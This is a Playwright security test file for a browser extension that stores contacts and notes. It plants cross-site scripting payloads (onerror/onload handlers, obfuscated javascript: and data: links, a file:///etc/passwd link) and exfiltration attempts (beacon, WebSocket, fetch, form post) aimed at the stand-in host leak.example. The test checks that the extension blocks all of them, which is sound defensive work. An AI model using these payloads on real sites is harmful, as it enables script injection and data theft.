import type { Page } from '@playwright/test';
import { addressOf, attackerPage, subjectOf } from './support/attacker-page.ts';
import { expect, somebody, test } from './support/hostile-test.ts';
import { Kith } from './support/kith.ts';
import { BUILT, EXTENSION_ID, launchChromium, newProfile, removeProfile } from './support/launch.ts';

/** What somebody may have been led to paste into a note, or to import. */
const NOTE = `Before everything.

<img src=https://leak.example/html onerror="alert(1)"><script src="https://leak.example/script"></script><style>@import 'https://leak.example/import'; *{background:url(https://leak.example/css)}</style>
<iframe src="https://leak.example/frame"></iframe><link rel="prefetch" href="https://leak.example/prefetch"><meta http-equiv="refresh" content="0;url=https://leak.example/refresh">
<form action="https://leak.example/form"><button>go</button></form><svg onload="alert(2)"><use href="https://leak.example/use#x"></use></svg><base href="https://leak.example/">

![picture](https://leak.example/image) ![](https://leak.example/nameless) ![data](data:image/svg+xml,<svg/onload=alert(3)>) ![js](javascript:alert(4))

[harmless](https://example.org/fine) [mail](mailto:somebody@example.org) <https://example.org/auto> https://example.org/bare

[one](javascript:alert(5)) [two](JaVaScRiPt:alert(6)) [three](java&#10;script:alert(7)) [four](data:text/html,<script>alert(8)</script>) [five](vbscript:x) [six](file:///etc/passwd) [seven](chrome://settings) [eight](blob:https://example.org/1) [nine](//leak.example/relative) [ten](dashboard.html#/settings) [eleven](chrome-extension://jjbbjlecjkgobdmiekbagbmcdabghhgp/dashboard.html) [twelve](&#106;avascript:alert(9)) [thirteen]( javascript:alert(10)) [fourteen](\u0001javascript:alert(11)) <javascript:alert(12)>

[ref]: javascript:alert(13)
[ref] [^1]

[^1]: javascript:alert(14)

\`\`\`html
<img src=https://leak.example/code onerror=alert(15)>
\`\`\`

After everything.`;

test('whatever a note or a name says, the extension’s pages load nothing, run nothing, and link only to the web and to mail', async ({
  kith,
  context,
  web,
}) => {
  const victim = { ...somebody(), name: '<img src=https://leak.example/name onerror=alert(20)>' };
  web.serve(addressOf(victim), attackerPage(victim));
  const { contactId = '' } = await kith.command('addContact', { subject: subjectOf(victim) });
  const subject = { contactId };
  await kith.command('editContact', {
    contactId,
    changes: {
      howWeMet: NOTE,
      customFields: [{ label: victim.name, value: NOTE }],
      tags: [victim.name],
      links: [{ label: victim.name, url: 'https://example.org/fine' }],
    },
  });
  await kith.command('writeNote', { subject, noteId: crypto.randomUUID(), text: NOTE, draft: false });
  await kith.command('setFollowUp', { subject, reminderId: crypto.randomUUID(), text: victim.name, dueAt: '2020-01-01T09:00' });
  const given = [{ benefit: 'knowledge' as const, text: NOTE }];
  await kith.command('logInteraction', {
    subject,
    interactionId: crypto.randomUUID(),
    content: { on: '2026-01-01', channel: 'coffee', text: NOTE, given, received: given, learned: NOTE },
  });

  const asked: string[] = [];
  const alerts: string[] = [];
  const violations: string[] = [];
  context.on('request', (request) => asked.push(request.url()));
  context.on('dialog', (dialog) => {
    alerts.push(dialog.message());
    void dialog.dismiss();
  });
  context.on('console', (message) => violations.push(...(/Content Security Policy|Trusted ?Type|violat/i.test(message.text()) ? [message.text()] : [])));

  const profile = await context.newPage();
  await profile.goto(addressOf(victim));
  const surfaces: [open: () => Promise<Page>, showsNotes: boolean][] = [
    [() => kith.openPanel(), true],
    [() => kith.open('popup.html'), false],
    [() => kith.open(`dashboard.html#/people/${contactId}`), true],
    [() => kith.open('dashboard.html#/people'), false],
    [() => kith.open('dashboard.html#/changes'), false],
  ];
  let told = '';
  for (const [open, showsNotes] of surfaces) {
    const surface = await open();
    await expect(surface.getByText('leak.example/name').filter({ visible: true }).first()).toBeVisible();
    const whole = surface.getByRole('button', { name: 'Show all of it' });
    if (showsNotes) await whole.first().click();
    if (showsNotes) await expect(surface.getByRole('link', { name: 'mail', exact: true }).first()).toBeVisible();
    await surface.evaluate(() => document.querySelectorAll('details').forEach((details) => (details.open = true)));
    const seen = await surface.evaluate(() => ({
      links: [...document.querySelectorAll('a[href], area[href], [action], [formaction]')].map((link) => ({
        protocol: new URL(link.getAttribute('href') ?? '', location.href).protocol,
        own: link.getAttribute('href')?.startsWith('#') === true || link.getAttribute('href')?.startsWith('/dashboard.html') === true,
        href: link.getAttribute('href'),
        target: link.getAttribute('target'),
        rel: link.getAttribute('rel'),
      })),
      strange: [
        ...document.querySelectorAll(
          'img, iframe, object, embed, form, base, meta[http-equiv], style, link[rel=prefetch], script:not([src]), svg use, video, audio, [onerror], [onload]',
        ),
      ]
        .map((element) => element.outerHTML)
        .filter((markup) => /leak|alert|javascript/i.test(markup)),
      text: document.body.innerText,
    }));
    told += seen.text;
    expect(seen.strange).toEqual([]);
    for (const link of seen.links.filter(({ own }) => !own)) {
      expect(link.protocol, link.href ?? '').toMatch(/^(https?|mailto):$/);
      expect(link, link.href ?? '').toMatchObject({ target: '_blank', rel: expect.stringContaining('noopener') });
    }
    const hrefs = seen.links.map(({ href }) => href);
    const meant = ['https://example.org/fine', 'mailto:somebody@example.org', 'https://leak.example/image'];
    if (showsNotes) expect(hrefs).toEqual(expect.arrayContaining(meant));
  }
  // It was shown, as the text that it is.
  expect(told).toContain('After everything.');
  expect(told).toContain('<img src=https://leak.example/code onerror=alert(15)>');
  expect(asked.filter((address) => !address.startsWith('chrome-extension:') && address !== addressOf(victim) && !address.startsWith('data:'))).toEqual([]);
  expect(alerts).toEqual([]);
  expect(violations).toEqual([]);
});

test('what markup got into an extension’s page all the same could load nothing and send nothing', async () => {
  // A browser of its own: what is refused before it is asked for counts as asked for elsewhere.
  const profile = await newProfile();
  const running = await launchChromium({ profile, extension: BUILT });
  const { context, close } = running;
  // No frame is asked for in vain by a page that the welcome came in front of.
  await (await Kith.in(running)).welcomed();
  const asked: string[] = [];
  const refusals: string[] = [];
  context.on('request', (request) => /^(https?|wss?):/.test(request.url()) && asked.push(request.url()));
  context.on('requestfailed', (request) => asked.includes(request.url()) && refusals.push(`${request.url()} ${request.failure()?.errorText}`));
  for (const file of ['sidepanel.html', 'popup.html', 'dashboard.html']) {
    const surface = await context.newPage();
    await surface.goto(`chrome-extension://${EXTENSION_ID}/${file}`);
    await surface.locator('main').first().waitFor();
    const outcome = await surface.evaluate(async () => {
      const refused: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
      const attempt = (name: string, act: () => unknown) => {
        try {
          act();
        } catch (error) {
          refused.push(`${name}: ${(error as Error).name}`);
        }
      };
      const markup = '<img src="https://leak.example/x">';
      attempt('innerHTML', () => (document.createElement('p').innerHTML = markup));
      attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', markup));
      attempt('write', () => document.write(markup));
      attempt('policy', () => (globalThis as any).trustedTypes.createPolicy('x', { createHTML: (text: string) => text }));
      attempt('srcdoc', () => (document.createElement('iframe').srcdoc = markup));
      const put = (tag: string, attributes: Record<string, string>) => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) attempt(`${tag} ${name}`, () => element.setAttribute(name, value));
        document.body.append(element);
        return element;
      };
      const address = (what: string) => `https://leak.example/${what}`;
      put('img', { src: address('img') });
      put('img', { srcset: `${address('srcset')} 2x` });
      put('link', { rel: 'stylesheet', href: address('sheet') });
      put('link', { rel: 'prefetch', href: address('prefetch') });
      put('link', { rel: 'preload', as: 'image', href: address('preload') });
      put('link', { rel: 'icon', href: address('icon') });
      put('iframe', { src: address('frame') });
      put('object', { data: address('object') });
      put('video', { src: address('video'), poster: address('poster') });
      put('style', {}).textContent = `@import '${address('import')}';body{background:url(${address('css')})}`;
      put('p', { style: `background:url(${address('inline')})` });
      const form = put('form', { action: address('form'), method: 'post' }) as HTMLFormElement;
      attempt('submit', () => form.submit());
      attempt('beacon', () => navigator.sendBeacon(address('beacon'), 'note'));
      attempt('socket', () => new WebSocket('wss://leak.example/socket'));
      attempt('source', () => new EventSource(address('source')));
      attempt('worker', () => new Worker(address('worker')));
      const link = put('a', { href: '#', ping: address('ping') });
      link.click();
      await fetch(address('fetch')).catch(() => refused.push('fetch'));
      document.body.style.backgroundImage = `url(${address('script-css')})`;
      await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
      return refused;
    });
    expect(outcome).toEqual(
      expect.arrayContaining([
        'innerHTML: TypeError',
        'insertAdjacentHTML: TypeError',
        'write: TypeError',
        'policy: TypeError',
        'img-src',
        'connect-src',
        'fetch',
      ]),
    );
    await expect.poll(() => refusals.toSorted()).toEqual(asked.map((address) => `${address} csp`).toSorted());
    expect(surface.url()).toContain(file);
    await surface.close();
  }
  await close();
  await removeProfile(profile);
});
